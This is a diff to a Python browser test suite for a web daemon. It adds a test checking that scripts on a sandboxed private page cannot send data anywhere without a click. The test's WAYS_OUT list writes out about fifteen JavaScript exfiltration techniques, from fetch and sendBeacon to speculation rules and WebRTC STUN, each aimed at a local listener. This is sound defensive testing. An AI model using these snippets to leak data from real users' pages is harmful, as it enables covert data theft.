@@ -1,12 +1,16 @@
 """Pages of a group in a browser that is signed in. They work, and have nobody's rights: neither in a page, nor in a
 picture, nor under a host name of their own."""
 
+import asyncio
 import json
+import socket
 from collections.abc import AsyncIterator, Iterator
+from contextlib import suppress
 from typing import Any
 
 import pytest
-from playwright.async_api import Browser, BrowserContext, Page, expect
+from playwright.async_api import Browser, BrowserContext, Frame, Page, expect
+from playwright.async_api import Error as PlaywrightError
 from tests.browsers import needs_chromium, start_browser
 
 from gatepost.testing.daemon import DaemonProcess
@@ -125,7 +129,15 @@ async def enter(context: BrowserContext, daemon: DaemonProcess) -> Page:
     return page
 
 
-async def check_it_works(page: Page) -> None:
+async def find_frame(page: Page) -> Frame:
+    """The agent's page in ours."""
+    handle = await page.wait_for_selector("iframe")
+    found = await handle.content_frame()
+    assert found is not None
+    return found
+
+
+async def check_it_works(page: Page | Frame) -> None:
     """Styles, pictures, modules and data beside a page are loaded by relative addresses."""
     await expect(page.locator("#said")).to_have_text("it works")
     await expect(page.locator("#said")).to_have_css("color", "rgb(1, 2, 3)")
@@ -137,10 +149,12 @@ async def test_public_and_private_pages_work_in_a_browser(daemon: DaemonProcess,
     page = await enter(context, daemon)
     await page.goto(f"{get_base(daemon)}/dashboard/sites")
     await page.get_by_role("link", name="/priv/home/", exact=True).click()
-    await check_it_works(page)
-    assert "/priv/~" in page.url
-    await page.locator("#next").click()
-    await expect(page).to_have_title("Docs")
+    inner = await find_frame(page)
+    await check_it_works(inner)
+    assert page.url.endswith("/priv/home/") and "/priv/~" in inner.url
+    await inner.locator("#next").click()
+    await inner.wait_for_url("**/docs/")
+    assert await inner.title() == "Docs"
     await page.goto(f"{get_base(daemon)}/dashboard/sites")
     await page.get_by_role("link", name="/pub/home/", exact=True).click()
     await check_it_works(page)
@@ -151,13 +165,16 @@ async def test_public_and_private_pages_work_in_a_browser(daemon: DaemonProcess,
     assert answer is not None and answer.status == 401
 
 
-async def open_site(context: BrowserContext, daemon: DaemonProcess, where: str) -> Page:
+async def open_site(context: BrowserContext, daemon: DaemonProcess, where: str) -> Page | Frame:
     page = await context.new_page()
     if where == "host":
         await page.goto(f"http://{HOST}:{get_base(daemon).rpartition(':')[2]}/")
     elif where == "private":
         await page.goto(f"{get_base(daemon)}/dashboard/sites")
         await page.get_by_role("link", name="/priv/home/", exact=True).click()
+        inner = await find_frame(page)
+        await expect(inner.locator("#said")).to_have_text("it works")
+        return inner
     else:
         await page.goto(f"{get_base(daemon)}/pub/home/")
     await expect(page.locator("#said")).to_have_text("it works")
@@ -182,12 +199,62 @@ async def test_a_script_of_a_group_has_no_rights_of_the_visitor(
         assert await page.evaluate(FOLLOW, [base, path]) == "refused"
     await page.evaluate(PRESS, [base, list(WRITES)])
     await page.evaluate(FRAME, [f"{base}/", f"{base}/dashboard/ledger", f"{base}/pub/home/docs/"])
-    for frame in page.frames[1:]:
+    for frame in page.child_frames if isinstance(page, Frame) else page.frames[1:]:
         assert await frame.locator("#text, main").count() == 0 and not frame.url.startswith(base)
     assert "planted" not in {group["folder"] for group in daemon.json("group", "list")}
     assert len(daemon.json("ledger", "list")) == before and await context.cookies() == cookies
     await chat.reload()
     await expect(chat.locator("#text")).to_be_visible()  # nobody was signed out
+
+
+# Each would carry something out without a click. `{away}` listens on TCP and, for WebRTC, on UDP.
+WAYS_OUT = {
+    "location": "location.href = '{away}/?d'",
+    "top": "top.location.href = '{away}/?d'",
+    "meta": "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url={away}/?d\">')",
+    "open": "open('{away}/?d')",
+    "link": "Object.assign(document.createElement('a'), {{ href: '{away}/?d' }}).click()",
+    "form": "const f = Object.assign(document.createElement('form'), {{ action: '{away}/' }}); document.body.append(f);"
+    " f.submit()",
+    "image": "new Image().src = '{away}/?d'",
+    "fetch": "await fetch('{away}/?d', {{ mode: 'no-cors' }})",
+    "beacon": "navigator.sendBeacon('{away}/', 'd')",
+    "preconnect": "document.head.insertAdjacentHTML('beforeend', '<link rel=preconnect href=\"{away}\">')",
+    "prefetch": "document.head.insertAdjacentHTML('beforeend', '<link rel=prefetch href=\"{away}/?d\">')",
+    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent ="
+    " JSON.stringify({{ prefetch: [{{ source: 'list', urls: ['{away}/?d'], eagerness: 'immediate' }}] }});"
+    " document.head.append(s)",
+    "socket": "new WebSocket('{away}/?d'.replace('http', 'ws'))",
+    "webrtc": "const p = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:127.0.0.1:{port}' }}] }});"
+    " p.createDataChannel('d'); await p.setLocalDescription(await p.createOffer())",
+    "webrtc in a frame": "const i = document.createElement('iframe'); i.srcdoc = `<script>const p = new"
+    " RTCPeerConnection({{ iceServers: [{{ urls: 'stun:127.0.0.1:{port}' }}] }}); p.createDataChannel('d');"
+    " p.createOffer().then((o) => p.setLocalDescription(o))</` + 'script>'; document.body.append(i)",
+}
+LEAVE = """async () => {{
+  try {{ {way}; }} catch {{ /* refused */ }}
+  await new Promise((done) => setTimeout(done, 150));
+}}"""
+
+
+async def test_a_private_page_carries_nothing_out_without_a_click(
+    daemon: DaemonProcess, context: BrowserContext
+) -> None:
+    arrived: list[str] = []
+    server = await asyncio.start_server(lambda _, writer: (arrived.append("tcp"), writer.close()), "127.0.0.1", 0)
+    port = server.sockets[0].getsockname()[1]
+    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    datagrams.bind(("127.0.0.1", port))
+    asyncio.get_running_loop().add_reader(datagrams, lambda: arrived.append(f"udp {len(datagrams.recv(2048))}"))
+    for name, way in WAYS_OUT.items():
+        inner = await open_site(context, daemon, "private")
+        script = LEAVE.format(way=way.format(away=f"http://localhost:{port}", port=port))
+        with suppress(PlaywrightError):  # it was led away, to an empty page
+            await inner.evaluate(script)
+        assert arrived == [], name
+    asyncio.get_running_loop().remove_reader(datagrams)
+    datagrams.close()
+    server.close()
 
 
 @pytest.mark.slow
